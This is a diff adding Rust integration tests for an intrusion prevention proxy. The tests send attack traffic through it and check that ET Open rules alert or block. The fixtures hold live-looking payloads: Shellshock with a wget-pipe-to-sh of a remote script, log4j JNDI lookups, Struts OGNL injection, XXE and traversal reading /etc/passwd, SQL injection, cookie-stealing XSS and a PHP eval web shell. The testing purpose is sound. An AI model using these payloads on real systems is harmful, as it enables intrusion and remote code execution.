@@ -1,0 +1,481 @@
+//! The IPS through the real binary: real ET Open rules on plain HTTP and decrypted HTTPS (request
+//! and response buffers, pcre, TLS SNI), drop rules blocking, detect mode, clean traffic raising
+//! nothing, live reload, and `sekisho rules check`.
+
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::PathBuf;
+use std::process::Command;
+
+use common::*;
+
+fn repo() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn corpora() -> PathBuf {
+    std::env::var_os("SEKISHO_CORPORA")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| repo().join("../shared/corpora"))
+}
+
+const BROWSER: &str =
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
+
+fn et_table(extra_rules: &[PathBuf], tail: &str) -> String {
+    let mut rules = vec![corpora().join("et-open/*.rules").display().to_string()];
+    rules.extend(extra_rules.iter().map(|p| p.display().to_string()));
+    format!(
+        "[ips]\nrules = {rules:?}\nclassification = {:?}\n{tail}\n",
+        corpora()
+            .join("et-open/classification.config")
+            .display()
+            .to_string()
+    )
+}
+
+fn files() -> Files {
+    let mut f = Files::new();
+    let html = |b: &str| {
+        (
+            vec![("content-type".to_string(), "text/html".to_string())],
+            b.as_bytes().to_vec(),
+        )
+    };
+    f.insert(
+        "/cat.txt".into(),
+        (
+            vec![("content-type".into(), "text/plain".into())],
+            b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
+                .to_vec(),
+        ),
+    );
+    f.insert(
+        "/x.php".into(),
+        html("<html><body><?php eval(base64_decode($_POST['x'])); ?></body></html>"),
+    );
+    f.insert(
+        "/update".into(),
+        html("<html><body><iframe src=\"\"data:text/x-powershell;base64,SQBFAFgA\"></iframe></body></html>"),
+    );
+    f.insert(
+        "/resp-test".into(),
+        html("<p>SEKISHO-IPS-TEST-RESPONSE</p>"),
+    );
+    f.insert(
+        "/index.html".into(),
+        html("<html><head><title>Ward 3</title></head><body>Rounds at 9</body></html>"),
+    );
+    f.insert(
+        "/api/claims".into(),
+        (
+            vec![("content-type".into(), "application/json".into())],
+            br#"{"accepted":1}"#.to_vec(),
+        ),
+    );
+    f
+}
+
+/// SIDs of IPS events about `url`.
+fn sids_for(gw: &Gateway, url: &str) -> BTreeMap<u32, serde_json::Value> {
+    gw.events()
+        .into_iter()
+        .filter(|v| v["rule"]["engine"] == "suricata" && v["http"]["url"] == url)
+        .map(|v| {
+            (
+                v["alert"]["signature_id"]
+                    .as_str()
+                    .unwrap()
+                    .parse()
+                    .unwrap(),
+                v,
+            )
+        })
+        .collect()
+}
+
+fn wait_sid(gw: &Gateway, sid: u32) -> serde_json::Value {
+    gw.wait_line("events.jsonl", |v| {
+        v["rule"]["engine"] == "suricata" && v["alert"]["signature_id"] == sid.to_string().as_str()
+    })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
+    let pki = TestPki::new("Origin Test CA", &["localhost"]);
+    let tls_origin = Origin::start_with_files(Some(pki.server_config()), files()).await;
+    let plain_origin = Origin::start_with_files(None, files()).await;
+    let roots = TempDir::new("ips-roots");
+    std::fs::write(roots.path().join("ca.pem"), &pki.ca_pem).unwrap();
+    let gw = Gateway::start(
+        "ips",
+        &format!(
+            "upstream_roots = [\"{}\"]",
+            roots.path().join("ca.pem").display()
+        ),
+        &et_table(&[repo().join("rules/ips/sekisho.rules")], ""),
+    );
+    let ca = gw.ca_path();
+    let https = |p: &str| format!("https://localhost:{}{p}", tls_origin.port);
+    let http = |p: &str| format!("http://127.0.0.1:{}{p}", plain_origin.port);
+    let proxy = gw.proxy_url();
+    let fetch = |url: String, extra: Vec<String>| {
+        let proxy = proxy.clone();
+        let ca = ca.clone();
+        async move {
+            let mut args: Vec<String> = vec![
+                "-x".into(),
+                proxy,
+                "--cacert".into(),
+                ca.display().to_string(),
+                "-w".into(),
+                "\n%{http_code}".into(),
+                // The CONNECT carries a browser agent: the attack is only in the decrypted request.
+                "--proxy-header".into(),
+                format!("User-Agent: {BROWSER}"),
+            ];
+            args.extend(extra);
+            args.push(url);
+            let a: Vec<&str> = args.iter().map(String::as_str).collect();
+            curl(&a).await
+        }
+    };
+    let ua = |s: &str| vec!["-A".to_string(), s.to_string()];
+
+    // (url, extra curl args, SIDs that must fire, buffer of the first one, blocked?)
+    let cases: Vec<(String, Vec<String>, Vec<u32>, &str, bool)> = vec![
+        (https("/download?file=../../../../etc/passwd"), ua(BROWSER), vec![2049400], "http.uri", false),
+        (http("/hello"), ua("python-requests/2.31.0"), vec![2017515], "http.user_agent", false),
+        (https("/hello"), ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), vec![2017615, 2017616], "http.user_agent", false),
+        (https("/hello"), ua("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), vec![2009358, 2024364], "http.user_agent", false),
+        (https("/cat.txt"), ua(BROWSER), vec![2002034, 2025879], "file.data", false),
+        (https("/x.php"), ua(BROWSER), vec![2017399], "file.data", false),
+        (https("/update"), ua(BROWSER), vec![2037887], "http.response_body", false),
+        (https("/index.php?id=1%20UNION%20SELECT%201,2,concat(user(),0x3a,version())--%20-"), ua(BROWSER), vec![2006446, 2011037, 2011042], "http.uri", false),
+        (http("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"), ua(BROWSER), vec![2009714], "http.uri", false),
+        (https("/index.php?page=php://filter/convert.base64-encode/resource=index"), ua(BROWSER), vec![2013001], "http.uri", false),
+        (https("/.env"), ua(BROWSER), vec![2031502], "http.uri", false),
+        (
+            https("/struts2-showcase/index.action"),
+            [ua(BROWSER), vec!["-H".into(), "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}".into()]].concat(),
+            vec![2024045],
+            "http.header",
+            false,
+        ),
+        (
+            https("/xmlrpc.php"),
+            [ua(BROWSER), vec!["-H".into(), "Content-Type: application/xml".into(), "--data-binary".into(),
+                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>".into()]].concat(),
+            vec![2018056, 2025877, 9100020],
+            "http.request_body",
+            false,
+        ),
+        // Shellshock: ET alerts, our drop rule blocks.
+        (https("/cgi-bin/status"), ua("() { :; }; /bin/bash -c 'wget http://203.0.113.9/x.sh -O- | sh'"), vec![2019232, 9100012], "http.header", true),
+        // log4j in a header over plain HTTP: ET alert (raw stream) and our drop rule.
+        (http("/hello"), [ua(BROWSER), vec!["-H".into(), "X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}".into()]].concat(), vec![2034647, 9100010], "pkt_data", true),
+        (https("/sekisho-ips-test-block"), ua(BROWSER), vec![9100001], "http.uri", true),
+    ];
+    let mut all = BTreeSet::new();
+    for (url, extra, want, location, blocked) in &cases {
+        let r = fetch(url.clone(), extra.clone()).await;
+        assert_eq!(r.code, 0, "{url}: {}", r.stderr);
+        for sid in want {
+            wait_sid(&gw, *sid);
+        }
+        let got = sids_for(&gw, url);
+        for sid in want {
+            assert!(
+                got.contains_key(sid),
+                "{url}: sid {sid} missing; got {:?}",
+                got.keys()
+            );
+        }
+        let first = &got[&want[0]];
+        assert_eq!(first["evidence"]["location"], *location, "{url}: {first:#}");
+        assert_eq!(first["alert"]["gid"], 1);
+        assert!(first["alert"]["rev"].as_u64().unwrap() >= 1);
+        assert!(!first["alert"]["category"].as_str().unwrap().is_empty());
+        assert!(first["rule"]["source_file"]
+            .as_str()
+            .unwrap()
+            .ends_with(".rules"));
+        if *blocked {
+            assert!(
+                r.stdout.ends_with("\n403"),
+                "{url} must be blocked: {}",
+                r.stdout
+            );
+            let dropper = got
+                .values()
+                .find(|v| v["alert"]["rule_action"] == "drop")
+                .unwrap();
+            assert_eq!(dropper["alert"]["action"], "blocked");
+            assert!(
+                r.stdout.contains(dropper["event"]["id"].as_str().unwrap()),
+                "block page names the event"
+            );
+        } else {
+            assert!(
+                !r.stdout.ends_with("\n403"),
+                "{url} must pass: {}",
+                r.stdout
+            );
+            assert_eq!(first["alert"]["action"], "allowed");
+            assert_eq!(first["alert"]["rule_action"], "alert");
+        }
+        if url.starts_with("https") {
+            assert_eq!(first["tls"]["decrypted"], true);
+        }
+        all.extend(want.iter().copied());
+    }
+    let et: BTreeSet<_> = all.iter().filter(|s| **s < 9_000_000).collect();
+    assert!(et.len() >= 20, "only {} ET SIDs fired: {et:?}", et.len());
+
+    // A drop rule on the response body: the client never gets the marker.
+    let r = fetch(https("/resp-test"), ua(BROWSER)).await;
+    assert!(
+        !r.stdout.contains("SEKISHO-IPS-TEST-RESPONSE"),
+        "{}",
+        r.stdout
+    );
+    let ev = wait_sid(&gw, 9100002);
+    assert_eq!(ev["alert"]["action"], "blocked");
+    assert_eq!(ev["evidence"]["location"], "file.data");
+
+    // TLS SNI, before any request: a real ET SID, and a drop rule refusing the tunnel.
+    let ca_pem = std::fs::read_to_string(&ca).unwrap();
+    let s = connect_tunnel(gw.proxy, &format!("localhost:{}", tls_origin.port)).await;
+    let _ = tls_peer_chain(s, "api.1jve.com", &ca_pem).await;
+    let ev = wait_sid(&gw, 2026116);
+    assert_eq!(ev["evidence"]["location"], "tls.sni");
+    assert_eq!(ev["tls"]["sni"], "api.1jve.com");
+    let s = connect_tunnel(gw.proxy, &format!("localhost:{}", tls_origin.port)).await;
+    let _ = tls_peer_chain(s, "ips-test-block.invalid", &ca_pem).await;
+    assert_eq!(wait_sid(&gw, 9100003)["alert"]["action"], "blocked");
+
+    // Clean traffic: nothing from the IPS.
+    let before = gw.events().len();
+    let clean = vec![
+        (https("/index.html"), ua(BROWSER)),
+        (http("/index.html"), ua(BROWSER)),
+        (
+            https("/api/claims"),
+            [
+                ua(BROWSER),
+                vec![
+                    "-H".into(),
+                    "Content-Type: application/json".into(),
+                    "--data-binary".into(),
+                    r#"{"facility":"F-0042","claims":[{"code":"A123","amount":1200}]}"#.into(),
+                ],
+            ]
+            .concat(),
+        ),
+        (
+            https("/hello?from=2026-01-01&to=2026-11-25"),
+            [
+                ua(BROWSER),
+                vec![
+                    "-H".into(),
+                    "Cookie: sid=8f14e45fceea167a5a36dedd4bea2543".into(),
+                ],
+            ]
+            .concat(),
+        ),
+        (https("/bytes/300000"), ua(BROWSER)),
+    ];
+    for (url, extra) in clean {
+        let r = fetch(url.clone(), extra).await;
+        assert_eq!(r.code, 0, "{url}: {}", r.stderr);
+        assert!(!r.stdout.ends_with("\n403"), "{url}");
+    }
+    // The last clean flow is logged once its response ended; then no new IPS event may exist.
+    gw.wait_line("flows.jsonl", |v| v["path"] == "/bytes/300000");
+    let new: Vec<_> = gw.events()[before..]
+        .iter()
+        .filter(|v| v["rule"]["engine"] == "suricata")
+        .map(|v| {
+            (
+                v["alert"]["signature_id"].clone(),
+                v["alert"]["signature"].clone(),
+                v["http"]["url"].clone(),
+            )
+        })
+        .collect();
+    assert!(new.is_empty(), "clean traffic raised {new:?}");
+    gw.assert_metrics(&["sekisho_ips_rules_loaded", "sekisho_ips_matches_total"])
+        .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn detect_mode_and_live_reload_keep_a_working_set() {
+    let origin = Origin::start(None).await;
+    let dir = TempDir::new("ips-reload");
+    let rules = dir.path().join("local.rules");
+    let base = std::fs::read_to_string(repo().join("rules/ips/sekisho.rules")).unwrap();
+    std::fs::write(&rules, &base).unwrap();
+    let gw = Gateway::start(
+        "ips-detect",
+        "",
+        &format!(
+            "[ips]\nrules = [{:?}]\nclassification = {:?}\nmode = \"detect\"\n",
+            rules.display().to_string(),
+            repo()
+                .join("rules/ips/classification.config")
+                .display()
+                .to_string()
+        ),
+    );
+    let get = |path: &str| {
+        let url = format!("http://127.0.0.1:{}{path}", origin.port);
+        let proxy = gw.proxy_url();
+        async move { curl(&["-x", &proxy, "-w", "\n%{http_code}", &url]).await }
+    };
+    let r = get("/sekisho-ips-test-block").await;
+    assert!(
+        r.stdout.ends_with("\n404"),
+        "detect mode passes: {}",
+        r.stdout
+    );
+    assert_eq!(wait_sid(&gw, 9100001)["alert"]["action"], "detected");
+
+    let pid = gw.child.id().to_string();
+    let hup = || {
+        assert!(Command::new("kill")
+            .args(["-HUP", &pid])
+            .status()
+            .unwrap()
+            .success())
+    };
+    // A broken file: the running set stays, the log names file, line and SID.
+    std::fs::write(
+        &rules,
+        format!(
+            "{base}\nalert http any any -> any any (msg:\"broken\"; content:\"x; sid:9200002;)\n"
+        ),
+    )
+    .unwrap();
+    hup();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    loop {
+        let log = std::fs::read_to_string(&gw.stderr).unwrap_or_default();
+        if log.contains("reload failed") {
+            assert!(
+                log.contains("local.rules:") && log.contains("9200002"),
+                "{log}"
+            );
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no reload failure logged: {log}"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    let r = get("/sekisho-ips-test-block?again").await;
+    assert!(r.stdout.ends_with("\n404"));
+    gw.wait_line("events.jsonl", |v| {
+        v["alert"]["signature_id"] == "9100001"
+            && v["http"]["url"].as_str().unwrap().ends_with("?again")
+    });
+    // A good file with a new rule: swapped in.
+    std::fs::write(
+        &rules,
+        format!("{base}\nalert http any any -> any any (msg:\"SEKISHO TEST new rule\"; flow:to_server; http.uri; content:\"/new-rule\"; sid:9200001; rev:1;)\n"),
+    )
+    .unwrap();
+    hup();
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    loop {
+        let _ = get("/new-rule").await;
+        if gw
+            .events()
+            .iter()
+            .any(|v| v["alert"]["signature_id"] == "9200001")
+        {
+            break;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the new rule never fired"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+}
+
+#[test]
+fn rules_check_reports_loaded_skipped_and_broken_rules() {
+    let dir = TempDir::new("ips-check");
+    let cfg = dir.path().join("et.toml");
+    std::fs::write(&cfg, et_table(&[], "")).unwrap();
+    let out = Command::new(bin())
+        .args(["rules", "check", "--config"])
+        .arg(&cfg)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "{text}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let skipped: Vec<&str> = text
+        .lines()
+        .filter(|l| l.contains("skipped: unsupported keyword"))
+        .collect();
+    assert!(skipped.len() > 100);
+    assert!(
+        skipped.iter().all(|l| l.contains(": sid ")),
+        "every skipped line names its SID"
+    );
+    assert!(text.contains("unsupported keyword xbits"));
+    let total = text.lines().find(|l| l.starts_with("total: ")).unwrap();
+    let loaded: usize = total.split_whitespace().nth(1).unwrap().parse().unwrap();
+    assert!(loaded > 20_000, "{total}");
+
+    // A file with a broken rule between good ones: named with file:line and SID, the rest loads,
+    // exit status 1.
+    let rules = dir.path().join("mixed.rules");
+    std::fs::write(
+        &rules,
+        "alert http any any -> any any (msg:\"a\"; http.uri; content:\"/a\"; sid:1; rev:1;)\n\
+         alert http any any -> any any (msg:\"b\"; http.uri; content:\"|zz|\"; sid:2; rev:1;)\n\
+         alert http any any -> any any (msg:\"c\"; pcre:\"/(unclosed/U\"; sid:3; rev:1;)\n\
+         alert http any any -> any any (msg:\"d\"; xbits:set,x,track ip_src; sid:4; rev:1;)\n\
+         alert http any any -> any any (msg:\"e\"; http.host; content:\"e.test\"; bsize:6; sid:5; rev:1;)\n",
+    )
+    .unwrap();
+    let cfg2 = dir.path().join("mixed.toml");
+    std::fs::write(
+        &cfg2,
+        format!("[ips]\nrules = [{:?}]\n", rules.display().to_string()),
+    )
+    .unwrap();
+    let out = Command::new(bin())
+        .args(["rules", "check", "--config"])
+        .arg(&cfg2)
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{text}");
+    assert!(
+        text.contains("mixed.rules:2: sid 2: syntax error: content: bad hex digit"),
+        "{text}"
+    );
+    assert!(
+        text.contains("mixed.rules:3: sid 3: syntax error: pcre"),
+        "{text}"
+    );
+    assert!(
+        text.contains("mixed.rules:4: sid 4 skipped: unsupported keyword xbits"),
+        "{text}"
+    );
+    assert!(
+        text.contains("2 loaded, 1 skipped (unsupported), 2 errors"),
+        "{text}"
+    );
+}
